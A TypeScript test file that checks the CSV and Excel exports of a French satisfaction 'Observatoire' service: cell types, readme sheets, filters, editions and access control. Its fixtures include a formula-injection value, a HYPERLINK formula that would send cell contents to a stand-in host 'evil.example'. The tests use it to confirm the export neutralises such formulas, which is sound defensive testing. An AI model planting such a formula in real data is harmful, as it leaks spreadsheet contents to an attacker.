import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import type { Answer } from '../../server/src/features/answers/answer-schema.ts';
import type {
  editionResponse,
  observatoireResponse,
} from '../../server/src/features/observatoire/observatoire-schema.ts';
import type { Store } from '../../server/src/store/store.ts';
import { typographyFaults } from '../fixtures/french-typography.ts';
import { parseCsv, readWorkbook, rowsOf, unzip } from '../fixtures/xlsx-reading.ts';
import { type SignedInInject, startTestApp, testDatabases, uuidv7 } from '../helpers.ts';

const good: Answer = {
  satisfaction: 'good',
  clarity: 5,
  help: ['phone', 'none'],
  reached: { phone: true },
  helpQuality: { phone: 4 },
};
const medium: Answer = { satisfaction: 'medium', clarity: 3, help: ['none'] };
const bad: Answer = {
  satisfaction: 'bad',
  clarity: 1,
  help: ['counter', 'email'],
  reached: { counter: false, email: true },
  helpQuality: { email: 1 },
};

/** Names a spreadsheet would run as formulas if they were written as one. */
const hostileProcedure = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")';
const hostileOrganisation = '=1+1 Préfecture';

/** `count` answers to `key`, spread over `days` days from `from`, cycling through `answers`. */
async function seed(
  store: Store,
  key: string,
  from: string,
  days: number,
  count: number,
  answers: Answer[],
) {
  await store.saveSubmissions(
    Array.from({ length: count }, (_, i) => {
      const day = new Date(Date.parse(`${from}T12:00:00Z`) + (i % days) * 86_400_000)
        .toISOString()
        .slice(0, 10);
      return {
        id: uuidv7(Date.parse(`${day}T10:00:00Z`) + i),
        procedureKey: key,
        answer: answers[i % answers.length] as Answer,
        receivedAt: new Date(`${day}T10:00:00Z`),
        day,
      };
    }),
  );
}

/**
 * Three procedures with answers from 2026-01-15 to 2026-03-09, and the period before: one falling
 * (a significant, negative change), one in an organisation and under a name that look like
 * formulas, one with too few answers.
 */
async function withObservatoire(database: Record<string, string>) {
  const t = await startTestApp({ ...database, MIN_ANSWERS: '20' });
  // After T1, so that its editions may be made; sessions open at this time.
  t.clock.current = new Date('2026-04-02T10:00:00Z');
  const hostile = await t.store.createOrganisation({ name: hostileOrganisation, domains: [] });
  const formula = await t.store.createProcedure({
    name: hostileProcedure,
    allowedOrigins: [],
    organisationId: hostile.id,
  });
  const few = await t.store.createProcedure({ name: 'Permis de pêche', allowedOrigins: [] });
  await seed(t.store, t.procedure.key, '2025-11-25', 50, 120, [good, good, good, medium]);
  await seed(t.store, t.procedure.key, '2026-01-15', 54, 150, [bad, bad, medium, good]);
  await seed(t.store, formula.key, '2026-01-20', 40, 60, [good, medium]);
  await seed(t.store, few.key, '2026-02-01', 20, 7, [good, bad]);
  return { ...t, hostile, formula, admin: await t.as('admin') };
}

const period = 'from=2026-01-15&to=2026-03-09';

/** The CSV and the Excel file of one export path (without its extension) and query. */
async function csvAndWorkbookOf(as: SignedInInject, path: string, query: string) {
  const suffix = query ? `?${query}` : '';
  const csv = await as({ url: `${path}.csv${suffix}` });
  const xlsx = await as({ url: `${path}.xlsx${suffix}` });
  expect(csv.statusCode, csv.body.slice(0, 300)).toBe(200);
  expect(xlsx.statusCode, xlsx.body.slice(0, 300)).toBe(200);
  return {
    csvBody: csv.body,
    csv: parseCsv(csv.body),
    xlsx,
    workbook: await readWorkbook(xlsx.rawPayload),
  };
}

/** A number as the CSV writes it for French Excel: digits, a decimal comma, maybe a minus. */
const csvNumber = /^-?\d+(,\d+)?$/;

/**
 * Every cell of the sheet «Observatoire» against the CSV's: the same header, numbers as numbers
 * of the same value, text as the same text in a string cell formatted as text, never a formula.
 */
function expectSameTable(csv: string[][], sheet: ExcelJS.Worksheet) {
  const [csvHeader = [], ...csvRows] = csv;
  const [header = [], ...cells] = rowsOf(sheet);
  expect(header.map((cell) => cell.value)).toEqual(csvHeader);
  expect(cells).toHaveLength(csvRows.length);
  cells.forEach((row, r) => {
    row.forEach((cell, c) => {
      const expected = csvRows[r]?.[c] ?? '';
      const where = `${csvHeader[c]}, row ${r + 2}`;
      expect(cell.formula, where).toBeUndefined();
      if (expected === '') {
        expect(cell.value ?? null, where).toBeNull();
      } else if (csvNumber.test(expected) && c > 0) {
        expect(cell.type, where).toBe(ExcelJS.ValueType.Number);
        expect(cell.value, where).toBe(Number(expected.replace(',', '.')));
      } else {
        expect(cell.type, where).toBe(ExcelJS.ValueType.String);
        expect(cell.value, where).toBe(expected);
        expect(cell.numFmt, where).toBe('@');
      }
    });
  });
}

/** The «À lire» sheet's lines, label → text. */
function readMeOf(workbook: ExcelJS.Workbook): Map<string, string> {
  const lines = new Map<string, string>();
  (workbook.getWorksheet('À lire') as ExcelJS.Worksheet).eachRow((row) => {
    lines.set(String(row.getCell(1).value), String(row.getCell(2).value ?? ''));
  });
  return lines;
}

type Table = z.infer<typeof observatoireResponse>;
type EditionView = z.infer<typeof editionResponse>;

describe.each(testDatabases)('the Observatoire’s exports on $name', (database) => {
  describe.skipIf(!database.available)('(runs)', () => {
    it('the live table as Excel holds the CSV’s every cell: numbers as numbers, text as text', async () => {
      const t = await withObservatoire(await database.env());
      const { csv, csvBody, xlsx, workbook } = await csvAndWorkbookOf(
        t.admin,
        '/api/v1/observatoire/export',
        period,
      );
      expect(xlsx.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(xlsx.headers['content-disposition']).toBe(
        'attachment; filename="observatoire-2026-01-15-2026-03-09.xlsx"',
      );
      expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['À lire', 'Observatoire']);
      const sheet = workbook.getWorksheet('Observatoire') as ExcelJS.Worksheet;
      expect(csv).toHaveLength(1 + 3);
      expectSameTable(csv, sheet);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(sheet.getColumn(2).width).toBe(40);

      // The rows of the JSON table, in its default order («Plus fortes évolutions»).
      const json = (await t.admin({ url: `/api/v1/observatoire?${period}` })).json() as Table;
      expect(csv.slice(1).map((row) => row[0])).toEqual(json.rows.map((row) => row.procedure));

      // The falling procedure: its satisfaction is a figure with its margin, its change a negative
      // number (no neutralising apostrophe in the CSV), significant.
      const header = csv[0] ?? [];
      const falling = rowsOf(sheet).find((row) => row[0]?.value === t.procedure.key) ?? [];
      const column = (name: string) => header.indexOf(name);
      const change = falling[column('Satisfaction usager\u202f: évolution')];
      expect(change?.value).toBeLessThan(0);
      expect(change?.numFmt).toBe('+0.0;-0.0;0.0');
      expect(falling[column('Satisfaction usager (/10)')]?.numFmt).toBe('0.0');
      expect(falling[column('Satisfaction usager\u202f: évolution significative')]?.value).toBe(
        'oui',
      );
      expect(csvBody).toContain(`;${String(change?.value).replace('.', ',')};oui;`);
      // Too few answers: the words, an empty value and margin, the sample all the same.
      const few = rowsOf(sheet).find((row) => row[1]?.value === 'Permis de pêche') ?? [];
      expect(few[column('Satisfaction usager\u202f: niveau')]?.value).toBe(
        'Nombre d’avis insuffisant',
      );
      expect(few[column('Satisfaction usager (/10)')]?.value ?? null).toBeNull();
      expect(few[column('Satisfaction usager\u202f: réponses')]?.value).toBe(7);
      for (const text of header) expect(typographyFaults(text), text).toEqual([]);
    });

    it('writes a procedure or organisation named like a formula as a string cell, never a formula', async () => {
      const t = await withObservatoire(await database.env());
      const { csvBody, xlsx, workbook } = await csvAndWorkbookOf(
        t.admin,
        '/api/v1/observatoire/export',
        period,
      );
      // The CSV neutralises them; the workbook keeps their words, typed as text.
      expect(csvBody).toContain(
        `;"'${hostileProcedure.replace(/"/g, '""')}";'${hostileOrganisation};`,
      );
      const sheet = workbook.getWorksheet('Observatoire') as ExcelJS.Worksheet;
      const row = rowsOf(sheet).find((cells) => cells[0]?.value === t.formula.key) ?? [];
      for (const [cell, name] of [
        [row[1], hostileProcedure],
        [row[2], hostileOrganisation],
      ] as const) {
        expect(cell?.type).toBe(ExcelJS.ValueType.String);
        expect(cell?.value).toBe(name);
        expect(cell?.formula).toBeUndefined();
        expect(cell?.numFmt).toBe('@');
      }
      const files = unzip(xlsx.rawPayload);
      const sheetXml = [...files].find(([name]) => name.endsWith('sheet2.xml'))?.[1] ?? '';
      expect(sheetXml).toContain('t="str"><v>=HYPERLINK(&quot;http://evil.example/');
      expect(sheetXml).toContain('t="str"><v>=1+1 Préfecture</v>');
      for (const [name, xml] of files) expect(xml, name).not.toMatch(/<f[ >]/);
    });

    it('exports every row that passes the live table’s filters, in its order, not one page', async () => {
      const t = await withObservatoire(await database.env());
      const query = `${period}&sort=answers&order=asc&limit=1&page=2`;
      const { csv, workbook } = await csvAndWorkbookOf(
        t.admin,
        '/api/v1/observatoire/export',
        query,
      );
      expect(csv.slice(1).map((row) => row[1])).toEqual([
        'Permis de pêche',
        hostileProcedure,
        'Demande de passeport',
      ]);
      expectSameTable(csv, workbook.getWorksheet('Observatoire') as ExcelJS.Worksheet);

      const filtered = await csvAndWorkbookOf(
        t.admin,
        '/api/v1/observatoire/export',
        `${period}&level=insufficient&q=peche`,
      );
      expect(filtered.csv.slice(1).map((row) => row[1])).toEqual(['Permis de pêche']);
      expectSameTable(
        filtered.csv,
        filtered.workbook.getWorksheet('Observatoire') as ExcelJS.Worksheet,
      );
      expect(readMeOf(filtered.workbook).get('Filtres')).toBe(
        'Seulement les démarches avec les mots «\u202fpeche\u202f» et Satisfaction usager\u202f: Nombre d’avis insuffisant.',
      );

      const ofOrganisation = await csvAndWorkbookOf(
        t.admin,
        '/api/v1/observatoire/export',
        `${period}&organisation=${t.hostile.id}`,
      );
      expect(ofOrganisation.csv.slice(1).map((row) => row[1])).toEqual([hostileProcedure]);
      expect(readMeOf(ofOrganisation.workbook).get('Périmètre')).toBe(
        `Les démarches de ${hostileOrganisation} que vous pouvez consulter.`,
      );
    });

    it('says in «À lire» the periods compared, the scope, the licence and how to read the figures', async () => {
      const t = await withObservatoire(await database.env());
      const { workbook } = await csvAndWorkbookOf(t.admin, '/api/v1/observatoire/export', period);
      const lines = readMeOf(workbook);
      expect([...lines.keys()][0]).toBe('Observatoire, tableau en direct');
      expect(lines.get('Période')).toBe(
        'du 15/01/2026 au 09/03/2026, jours comptés inclus, comparée à la période précédente de même durée, du 22/11/2025 au 14/01/2026.',
      );
      expect(lines.get('Périmètre')).toContain('de toutes les organisations');
      expect(lines.get('Licence')).toMatch(/^Usage interne/);
      for (const name of [
        'Satisfaction usager',
        'Simplicité du langage',
        'Niveau d’autonomie',
        'Aide joignable',
        'Aide efficace',
      ])
        expect(lines.get(name), name).toBeTruthy();
      expect(lines.get('Évolution significative')).toContain('√(m₁² + m₂²)');
      expect(lines.get('Nombre d’avis insuffisant')).toContain('Moins de 20 réponses');
      for (const [label, text] of lines)
        expect(typographyFaults(`${label}\n${text}`), label).toEqual([]);
    });

    it('an edition as Excel holds its CSV’s every cell, frozen as made, and names its quarter and licence', async () => {
      const t = await withObservatoire(await database.env());
      const made = await t.admin({
        method: 'POST',
        url: '/api/v1/observatoire/editions',
        payload: { quarter: '2026-T1', organisation: null },
      });
      expect(made.statusCode).toBe(201);
      const { id } = made.json() as EditionView;
      const path = `/api/v1/observatoire/editions/${id}/export`;
      const { csv, xlsx, workbook } = await csvAndWorkbookOf(t.admin, path, '');
      expect(xlsx.headers['content-disposition']).toBe(
        'attachment; filename="observatoire-2026-T1-plateforme.xlsx"',
      );
      expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['À lire', 'Observatoire']);
      // By name, as the edition's CSV.
      expect(csv.slice(1).map((row) => row[1])).toEqual([
        hostileProcedure,
        'Demande de passeport',
        'Permis de pêche',
      ]);
      const sheet = workbook.getWorksheet('Observatoire') as ExcelJS.Worksheet;
      expectSameTable(csv, sheet);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      const lines = readMeOf(workbook);
      expect([...lines.keys()][0]).toBe('Observatoire, édition T1 2026');
      expect(lines.get('Période')).toBe(
        'du 01/01/2026 au 31/03/2026, jours comptés inclus, comparée au trimestre précédent, du 01/10/2025 au 31/12/2025.',
      );
      expect(lines.get('Édition')).toMatch(/^Figée le 02\/04\/2026 12:00:00 \(heure de /);
      expect(lines.get('Licence')).toMatch(/^Usage interne/);
      for (const [label, text] of lines)
        expect(typographyFaults(`${label}\n${text}`), label).toEqual([]);

      // Later answers change the live table, not the edition's files.
      await seed(t.store, t.procedure.key, '2026-03-01', 5, 30, [good]);
      const again = await csvAndWorkbookOf(t.admin, path, '');
      expect(again.csv).toEqual(csv);

      // An organisation that publishes its editions: its public procedures' lines are open data.
      expect(
        (
          await t.admin({
            method: 'PUT',
            url: `/api/v1/organisations/${t.procedure.organisationId}/observatoire`,
            payload: { publishes: true },
          })
        ).statusCode,
      ).toBe(200);
      const ours = await t.admin({
        method: 'POST',
        url: '/api/v1/observatoire/editions',
        payload: { quarter: '2026-T1', organisation: t.procedure.organisationId },
      });
      const published = await csvAndWorkbookOf(
        t.admin,
        `/api/v1/observatoire/editions/${(ours.json() as EditionView).id}/export`,
        '',
      );
      expect(readMeOf(published.workbook).get('Licence')).toContain('Licence Ouverte / Etalab 2.0');
      expect(readMeOf(published.workbook).get('Périmètre')).toMatch(/^Les démarches de /);
    });

    it('is allowed as the edition’s CSV: another organisation’s edition is not found, nobody signed out', async () => {
      const t = await withObservatoire(await database.env());
      const viewer = await t.as('viewer');
      const made = await t.admin({
        method: 'POST',
        url: '/api/v1/observatoire/editions',
        payload: { quarter: '2026-T1', organisation: t.hostile.id },
      });
      const { id } = made.json() as EditionView;
      for (const format of ['csv', 'xlsx']) {
        const url = `/api/v1/observatoire/editions/${id}/export.${format}`;
        expect((await viewer({ url })).statusCode, format).toBe(404);
        expect((await t.admin({ url })).statusCode, format).toBe(200);
        expect((await t.app.inject({ url })).statusCode, format).toBe(401);
        const live = `/api/v1/observatoire/export.${format}?${period}`;
        expect((await t.app.inject({ url: live })).statusCode, format).toBe(401);
        // The live table's rows are those the caller may read: the viewer's one procedure.
        const mine = await viewer({ url: live });
        expect(mine.statusCode).toBe(200);
        const other = await viewer({ url: `${live}&organisation=${t.hostile.id}` });
        expect(other.statusCode, format).toBe(404);
      }
      const { csv } = await csvAndWorkbookOf(viewer, '/api/v1/observatoire/export', period);
      expect(csv.slice(1).map((row) => row[0])).toEqual([t.procedure.key]);
    });

    it('refuses a live period of more than five years with a 400 problem, as the live table does', async () => {
      const t = await withObservatoire(await database.env());
      for (const format of ['csv', 'xlsx']) {
        const response = await t.admin({
          url: `/api/v1/observatoire/export.${format}?from=2020-01-01&to=2026-03-10`,
        });
        expect(response.statusCode, format).toBe(400);
        expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
        expect(response.json().errors).toEqual([
          { path: 'to', message: expect.stringMatching(/longer than .* \(5 years\)/) },
        ]);
      }
    });
  });
});
